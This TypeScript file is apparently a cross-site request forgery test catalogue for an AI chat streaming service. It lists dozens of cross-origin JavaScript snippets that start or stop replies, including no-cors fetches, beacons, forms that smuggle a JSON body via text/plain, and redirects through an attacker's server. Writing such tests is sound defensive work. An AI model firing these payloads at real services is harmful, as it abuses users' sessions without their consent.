/** One way in which a page of another site makes a browser send a request, as JavaScript that runs in that page. */
export interface Vector {
  readonly name: string
  /** `url(path)` is the address at the attacked service, `own(path)` one at the attacker's server, `sink` a frame. */
  readonly code: string
  /** The browser refuses to send it, or sends a preflight alone. */
  readonly blocked?: true
}

const element = (tag: string, attributes: string, parent = 'body'): string =>
  `const it = document.createElement('${tag}'); Object.assign(it, ${attributes}); document.${parent}.append(it)`
const html = (markup: string): string => `document.body.insertAdjacentHTML('beforeend', \`${markup}\`)`
const form = (attributes: string, path: string, input = `''`): string =>
  `const it = document.createElement('form'); Object.assign(it, { method: 'POST', target: sink, action: ${path} }, ${attributes});
   it.innerHTML = ${input}; document.body.append(it); it.submit()`

const stream = "url('/stream?prompt=hi')"
const message = `JSON.stringify({ id: 'c', messages: [{ id: 'm', role: 'user', parts: [{ type: 'text', text: 'hi' }] }] })`
const events = "headers: { accept: 'text/event-stream' }"

/** As text/plain a form sends `name=value`: JSON, when the sign is within one of its strings. */
const smuggled = `<input name='{"id":"c","messages":[{"id":"m","role":"user","parts":[{"type":"text","text":"hi"}]}],"x":"' value='"}'>`

/** Requests that would start a reply, or read one. */
export const starts: readonly Vector[] = [
  { name: 'image', code: element('img', `{ src: ${stream} }`) },
  {
    name: 'image without a referrer',
    code: element('img', `{ referrerPolicy: 'no-referrer', src: ${stream} }`),
  },
  { name: 'image of SVG', code: html(`<svg><image href="\${${stream}}"/></svg>`) },
  { name: 'image of an input', code: element('input', `{ type: 'image', src: ${stream} }`) },
  { name: 'stylesheet', code: element('link', `{ rel: 'stylesheet', href: ${stream} }`, 'head') },
  { name: 'stylesheet import', code: html(`<style>@import "\${${stream}}"</style>`) },
  { name: 'background', code: html(`<p style="background: url('\${${stream}}')">x</p>`) },
  {
    name: 'font',
    code: html(
      `<style>@font-face { font-family: f; src: url("\${${stream}}") }</style><p style="font: 1em f">x</p>`,
    ),
  },
  { name: 'script', code: element('script', `{ src: ${stream} }`) },
  { name: 'module', code: element('script', `{ type: 'module', src: ${stream} }`) },
  { name: 'iframe', code: element('iframe', `{ src: ${stream} }`) },
  {
    name: 'iframe without a referrer',
    code: element('iframe', `{ referrerPolicy: 'no-referrer', src: ${stream} }`),
  },
  {
    name: 'iframe with a refresh',
    code: element('iframe', `{ srcdoc: '<meta http-equiv=refresh content="0;url=' + ${stream} + '">' }`),
  },
  { name: 'object', code: element('object', `{ data: ${stream} }`) },
  { name: 'embed', code: element('embed', `{ src: ${stream} }`) },
  { name: 'audio', code: element('audio', `{ preload: 'auto', src: ${stream} }`) },
  { name: 'video', code: element('video', `{ preload: 'auto', src: ${stream} }`) },
  { name: 'video poster', code: element('video', `{ poster: ${stream} }`) },
  { name: 'prefetch', code: element('link', `{ rel: 'prefetch', href: ${stream} }`, 'head') },
  { name: 'preload', code: element('link', `{ rel: 'preload', as: 'image', href: ${stream} }`, 'head') },
  { name: 'manifest', code: element('link', `{ rel: 'manifest', href: ${stream} }`, 'head'), blocked: true },
  {
    name: 'form with GET',
    code: form(
      `{ method: 'GET' }`,
      "url('/stream')",
      "'<input name=prompt value=hi><input name=v value=' + v + '>'",
    ),
  },
  { name: 'window', code: `window.open(${stream})` },
  { name: 'window without a referrer', code: `window.open(${stream}, '_blank', 'noreferrer')` },
  { name: 'link', code: `${element('a', `{ target: sink, href: ${stream} }`)}; it.click()` },
  { name: 'fetch, no-cors', code: `fetch(${stream}, { mode: 'no-cors' })` },
  { name: 'fetch, no-cors, with Accept', code: `fetch(${stream}, { mode: 'no-cors', ${events} })` },
  {
    name: 'fetch, no-cors, with Accept, without a referrer',
    code: `fetch(${stream}, { mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer', ${events} })`,
  },
  {
    name: 'fetch, no-cors, with the name of a program',
    code: `fetch(${stream}, { mode: 'no-cors', headers: { 'user-agent': 'curl/8', accept: 'text/event-stream' } })`,
  },
  {
    name: 'fetch, no-cors, by a redirect',
    code: `fetch(own('/to?' + encodeURIComponent(${stream})), { mode: 'no-cors', referrerPolicy: 'no-referrer', ${events} })`,
  },
  { name: 'fetch, cors', code: `fetch(${stream}, { ${events} })` },
  { name: 'XMLHttpRequest', code: `const it = new XMLHttpRequest(); it.open('GET', ${stream}); it.send()` },
  { name: 'EventSource', code: `new EventSource(${stream})` },
  {
    name: 'EventSource of a sandboxed frame',
    code: `const it = document.createElement('iframe'); it.sandbox = 'allow-scripts';
      it.srcdoc = '<script>new EventSource("' + ${stream} + '")</' + 'script>'; document.body.append(it)`,
  },
  { name: 'WebSocket', code: `new WebSocket(${stream}.replace('http', 'ws'))` },
  {
    name: 'resume of a conversation',
    code: `fetch(url('/api/chat/c/stream?x=1'), { mode: 'no-cors', referrerPolicy: 'no-referrer', ${events} })`,
  },
  {
    name: 'form with text/plain',
    code: form(`{ enctype: 'text/plain' }`, "url('/api/chat?x=1')", JSON.stringify(smuggled)),
  },
  { name: 'form', code: form('{}', "url('/chat?x=1')", "'<input name=prompt value=hi>'") },
  {
    name: 'fetch, POST of text',
    code: `fetch(url('/api/chat?x=1'), { method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body: ${message} })`,
  },
  {
    name: 'fetch, POST without a type',
    code: `fetch(url('/api/chat?x=1'), { method: 'POST', mode: 'no-cors', body: new Blob([${message}]) })`,
  },
  {
    name: "fetch, POST to OpenAI's route",
    code: `fetch(url('/v1/chat/completions?x=1'), { method: 'POST', mode: 'no-cors', body: '{"messages":[{"role":"user","content":"hi"}]}' })`,
  },
  {
    name: 'fetch, POST of JSON',
    code: `fetch(url('/chat?x=1'), { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"prompt":"hi"}' })`,
  },
  { name: 'beacon', code: `navigator.sendBeacon(url('/api/chat?x=1'), ${message})` },
]

/** Requests that would stop the reply `id`. */
export const stops: readonly Vector[] = [
  { name: 'form', code: form('{}', "url('/chat/' + id + '/stop?x=1')") },
  { name: 'beacon', code: `navigator.sendBeacon(url('/chat/' + id + '/stop?x=1'))` },
  {
    name: 'fetch, no-cors, without a referrer',
    code: `fetch(url('/chat/' + id + '/stop?x=1'), { method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer' })`,
  },
  { name: 'fetch, DELETE', code: `fetch(url('/chat/' + id + '?x=1'), { method: 'DELETE' })` },
  {
    name: 'ping of a link',
    code: `${element('a', `{ target: sink, href: own('/'), ping: url('/api/chat/' + id + '/stop?x=1') }`)}; it.click()`,
  },
]
